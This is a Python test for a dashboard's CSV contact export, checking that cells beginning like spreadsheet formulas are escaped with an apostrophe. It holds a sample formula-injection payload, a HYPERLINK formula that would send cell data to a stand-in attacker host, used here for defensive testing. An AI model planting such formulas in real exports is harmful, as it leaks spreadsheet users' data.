"""The dashboard's list download opens in a spreadsheet as text: a contact whose name or company
starts like a formula is prefixed with ``'`` (``storage/csv_cells.py``). Real server, real CSV."""

from __future__ import annotations

import csv
import io
from datetime import datetime

from tests.web.conftest import Site

FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"click")'


def test_the_list_download_does_not_run_formulas(site: Site) -> None:
    def job(ctx: object) -> None:
        ctx.store.con.execute(  # type: ignore[attr-defined]
            "INSERT INTO contacts (contact_id, email, first_name, company, job_title, created_at) VALUES "
            "('c_formula', 'f@example.com', ?, '@SUM(A1:A9)', 'CEO', ?)", [FORMULA, datetime(2026, 1, 1)])

    site.runtime.write(job).result()
    r = site.login("mia").get("/ops/lists/ceos/export.csv")  # the CEOs segment
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = {row["contact_id"]: row for row in csv.DictReader(io.StringIO(r.text))}
    assert rows["c_formula"]["first_name"] == "'" + FORMULA
    assert rows["c_formula"]["company"] == "'@SUM(A1:A9)" and rows["c_formula"]["job_title"] == "CEO"
